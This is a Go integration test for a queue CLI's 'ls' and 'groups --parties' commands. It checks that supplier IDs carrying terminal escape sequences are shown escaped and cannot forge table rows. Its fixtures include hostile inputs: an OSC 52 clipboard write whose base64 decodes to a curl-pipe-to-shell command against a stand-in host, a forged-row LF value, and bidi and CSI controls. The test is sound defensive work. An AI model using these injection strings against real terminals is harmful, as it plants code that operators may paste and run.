package main_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/deadletter/deadletter/shared/api"
)

// rawControls must never reach the operator's terminal raw from a cell.
const rawControls = "\x00\x07\x1b\r\x7f\u0085\u009b\u009d\u202e\u2066\u2069"

// TestPayloadEscapesNotPrinted (I8): FSMA events whose supplier_id holds
// terminal escapes (an OSC 52 clipboard write, erase line, CR, LF forging
// a table line, C1 CSI, a bidi override) are quarantined through the real
// stack; `dlqctl ls` and `dlqctl groups --parties` print none of them raw
// and their tables have exactly their rows; the JSON output is valid and
// carries each supplier_id unchanged.
func TestPayloadEscapesNotPrinted(t *testing.T) {
	e := startStack(t, stackOptions{})
	dir := t.TempDir()
	template := string(readFile(t, testdata(t, "fsma/invalid/INVALID_QUANTITY--zero.json")))
	if !strings.Contains(template, `"SUP-00417"`) {
		t.Fatalf("fixture changed:\n%s", template)
	}
	suppliers := []struct{ name, id string }{
		{"OSC 52", "SUP-1\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"},
		{"erase line", "\x1b[2KSUP-2"},
		{"CR", "SUP-3\rSUP-00417"},
		{"LF forged row", "SUP-4\n1      1      fsma  OK  validation  1d  2025-01-01T00:00:00Z  forged"},
		{"C1 CSI", "SUP-5\u009b2K"},
		{"bidi override", "SUP-6 Müller & Söhne \u202e<Großhandel>"},
	}
	for i, s := range suppliers {
		id, err := json.Marshal(s.id)
		if err != nil {
			t.Fatal(err)
		}
		doc := strings.Replace(template, `"SUP-00417"`, string(id), 1)
		e.ok(t, "publish", writeFile(t, dir, fmt.Sprintf("escape-%d.json", i), []byte(doc)))
		e.waitQuarantined(t, api.ListRequest{}, i+1)
	}

	var list api.ListReply
	e.jsonOf(t, &list, "ls")
	var groups api.GroupsReply
	e.jsonOf(t, &groups, "groups", "--parties")
	got := map[string]bool{}
	for _, it := range list.Items {
		got[it.PartyID] = true
	}
	partyRows := 0
	for _, g := range groups.Groups {
		partyRows += len(g.Parties)
	}
	for _, s := range suppliers {
		if !got[s.id] {
			t.Errorf("%s: the JSON of ls lacks supplier_id %q", s.name, s.id)
		}
	}

	for _, tc := range []struct {
		args  []string
		lines int
	}{
		// A header, a row per record, "n of n".
		{[]string{"ls"}, 1 + len(list.Items) + 1},
		// A header, a row per group and per party, "n groups, n open".
		{[]string{"groups", "--parties"}, 1 + len(groups.Groups) + partyRows + 1},
	} {
		t.Run(strings.Join(tc.args, " "), func(t *testing.T) {
			out := e.ok(t, tc.args...).stdout
			if strings.ContainsAny(out, rawControls) {
				t.Errorf("a raw control character reached the terminal:\n%q", out)
			}
			lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
			if len(lines) != tc.lines {
				t.Errorf("%d lines, want %d:\n%s", len(lines), tc.lines, out)
			}
			for _, l := range lines {
				if strings.Contains(l, "forged") && !strings.Contains(l, `SUP-4\n`) {
					t.Errorf("a forged line of its own: %q", l)
				}
			}
			if !strings.Contains(out, `SUP-1\u001b]52;c;`) {
				t.Errorf("the OSC 52 supplier is not shown escaped:\n%s", out)
			}
		})
	}
}
